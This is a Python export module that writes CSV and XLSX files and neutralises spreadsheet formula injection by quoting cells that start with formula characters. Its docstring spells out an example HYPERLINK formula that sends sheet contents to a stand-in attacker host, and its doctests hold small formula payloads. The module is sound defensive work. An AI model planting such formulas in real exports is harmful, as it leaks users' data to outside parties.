"""The one writer for every table the product exports as CSV or XLSX.

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return, which some programs skip before looking) as a formula: a group or person
named ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would become a live link that sends
the sheet's contents away, or worse (OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection). Every CSV and XLSX the product writes
goes through this module, so no export can forget the rule:

- CSV: a text cell that starts with one of those characters gets a leading single quote, as
  OWASP advises; a text cell that is a plain number (``-12.50``) is a number, not a formula, and
  is left alone. Numbers, dates and empty cells are written as they are.
- XLSX: text is always written as a string cell (never a formula); a string that would read as a
  formula also carries Excel's "quote prefix" style, so editing the cell keeps it text. Numbers
  stay numbers. Characters XML cannot hold (control characters) are replaced by U+FFFD rather
  than failing the whole download.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any, TextIO

__all__ = ["FORMULA_STARTS", "Sheet", "csv_text", "neutralise", "write_csv", "xlsx_bytes"]

#: A text cell starting with any of these is read as a formula by some spreadsheet program.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_NATIVE = (int, float, Decimal, dt.date, dt.time)
# XML 1.0 cannot hold these; openpyxl refuses them (its ILLEGAL_CHARACTERS_RE).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _risky(text: str) -> bool:
    return text[:1] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text)


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet should receive it from a CSV file.

    Text that a spreadsheet would run as a formula gets a leading single quote; numbers, dates,
    booleans and None are returned unchanged, and so is text that is a plain number.

    >>> neutralise('=HYPERLINK("http://x","y")')
    '\\'=HYPERLINK("http://x","y")'
    >>> neutralise("@SUM(A1)"), neutralise("\\tcmd")
    ("'@SUM(A1)", "'\\tcmd")
    >>> neutralise(-3), neutralise("-12.50"), neutralise("- a note")
    (-3, '-12.50', "'- a note")
    """
    if value is None or isinstance(value, (bool, *_NATIVE)):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if _risky(text) else text


def write_csv(
    sink: TextIO,
    rows: Iterable[Sequence[Any]],
    *,
    header: Sequence[Any] | None = None,
    lineterminator: str = "\n",
) -> None:
    """Write `header` (if given) and `rows` to `sink` as CSV, every cell through `neutralise`.

    None is written as an empty cell (as `csv.writer` does).
    """
    writer = csv.writer(sink, lineterminator=lineterminator)
    # The csv module quotes a field holding a character of the line terminator, not any line
    # break: with "\n" a bare carriage return would be written unquoted and start a new row
    # in a spreadsheet (whose first cell could be a formula). Such rows quote their text.
    quoted = csv.writer(sink, lineterminator=lineterminator, quoting=csv.QUOTE_NONNUMERIC)
    for row in [header] if header is not None else []:
        writer.writerow([neutralise(v) for v in row])
    for row in rows:
        cells = [neutralise(v) for v in row]
        bare_cr = "\r" not in lineterminator and any(
            isinstance(v, str) and "\r" in v for v in cells
        )
        (quoted if bare_cr else writer).writerow(cells)


def csv_text(
    rows: Iterable[Sequence[Any]],
    *,
    header: Sequence[Any] | None = None,
    lineterminator: str = "\n",
) -> str:
    """`header` and `rows` as CSV text (see `write_csv`).

    >>> print(csv_text([["=1+1", 2]], header=["a", "b"]), end="")
    a,b
    '=1+1,2
    """
    sink = io.StringIO()
    write_csv(sink, rows, header=header, lineterminator=lineterminator)
    return sink.getvalue()


@dataclass
class Sheet:
    """One worksheet: an optional bold header row, then `rows` (an empty row stays empty).

    `number_formats` maps a 1-based column to an Excel number format applied to the numeric
    cells of that column below the header; `widths` sets column widths from column A on.
    """

    title: str
    rows: Sequence[Sequence[Any]]
    header: Sequence[Any] | None = None
    number_formats: dict[int, str] = field(default_factory=dict)
    widths: Sequence[float] = ()


def _xlsx_value(value: Any) -> Any:
    if value is None or isinstance(value, (bool, *_NATIVE)):
        return value
    text = value if isinstance(value, str) else str(value)
    return _ILLEGAL_XML.sub("\ufffd", text)


def _title(text: str) -> str:
    # Excel refuses these characters in a sheet name, and names longer than 31.
    return re.sub(r"[\[\]:*?/\\]", "-", text)[:31] or "Sheet"


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """An XLSX workbook of `sheets` (openpyxl) in which no text cell is ever a formula."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    book.remove(book.active)
    for spec in sheets:
        sheet = book.create_sheet(_title(spec.title))
        rows = list(spec.rows)
        if spec.header is not None:
            rows = [spec.header, *rows]
        for r, row in enumerate(rows, start=1):
            is_header = spec.header is not None and r == 1
            for c, raw in enumerate(row, start=1):
                value = _xlsx_value(raw)
                if value is None:
                    continue
                cell = sheet.cell(r, c)
                cell.value = value
                if isinstance(value, str):
                    # openpyxl would store "=…" as a formula; a string cell is never run.
                    cell.data_type = "s"
                    if _risky(value):
                        cell.quotePrefix = True
                elif not is_header and c in spec.number_formats and not isinstance(value, bool):
                    cell.number_format = spec.number_formats[c]
                if is_header:
                    cell.font = Font(bold=True)
        for c, width in enumerate(spec.widths, start=1):
            sheet.column_dimensions[get_column_letter(c)].width = width
    if not book.worksheets:
        book.create_sheet("Sheet")
    sink = io.BytesIO()
    book.save(sink)
    return sink.getvalue()
